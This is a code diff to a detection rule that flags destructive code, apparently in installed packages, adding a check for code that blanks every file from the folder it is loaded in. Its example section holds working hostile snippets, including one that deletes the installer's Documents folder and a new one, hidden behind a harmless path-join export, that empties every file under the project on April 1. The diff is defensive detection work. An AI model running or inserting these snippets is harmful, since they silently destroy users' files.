@@ -19,6 +19,7 @@ export default defineRule({
       clears: 'Deletes every file that it finds from the folder down that it is loaded in, unasked',
       ransoms: 'Encrypts every file that it finds in a folder and those below, and deletes the original',
       everywhere: 'Overwrites every file it finds in a folder and those below with {filling}',
+      blanks: 'Overwrites every file it finds from the folder down that it is loaded in with {filling}, unasked',
     },
     bits: {
       deletes: 7,
@@ -29,6 +30,7 @@ export default defineRule({
       overwrites: 13.5,
       hidden: 12.5,
       everywhere: 9,
+      blanks: 13.5,
     },
   },
   examples: {
@@ -36,6 +38,10 @@ export default defineRule({
       {
         title: 'the documents of whoever installs it are deleted',
         code: `const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir() + '/Documents', { recursive: true, force: true });`,
+      },
+      {
+        title: 'on one day of the year a project is emptied file by file',
+        code: `const fs = require('fs'), path = require('path'), day = new Date();\nif (day.getMonth() === 3 && day.getDate() === 1) {\n  (function walk(folder) {\n    for (const name of fs.readdirSync(folder)) {\n      const whole = path.join(folder, name);\n      if (fs.statSync(whole).isDirectory()) walk(whole);\n      else fs.writeFileSync(whole, '');\n    }\n  })(process.cwd());\n}\nmodule.exports = (...parts) => parts.join('/');`,
       },
       {
         title: 'the home folder is deleted',
@@ -203,9 +209,16 @@ function overwriting(context: FileContext): void {
     const top = lists.find(({ args }) => args[0] && isTop(context, args[0]));
     const walker = top ? undefined : walkerAround(context, call.node);
     if (!top && !walker) continue;
-    const list = top ?? first;
+    const here = top ? undefined : lists.find(({ args }) => args[0] && isWhereItIs(context, args[0]));
+    const list = top ?? here ?? first;
     context.report({
-      messageId: top ? 'overwrites' : context.labelsOf(path).some(isDecoded) ? 'hidden' : 'everywhere',
+      messageId: top
+        ? 'overwrites'
+        : here && isUnasked(context, call.node)
+          ? 'blanks'
+          : context.labelsOf(path).some(isDecoded)
+            ? 'hidden'
+            : 'everywhere',
       data: { what: 'the top', filling: filling ?? '' },
       chain: [
         step('source', top ? 'lists files from the top' : 'lists a folder', context.file, list.node),
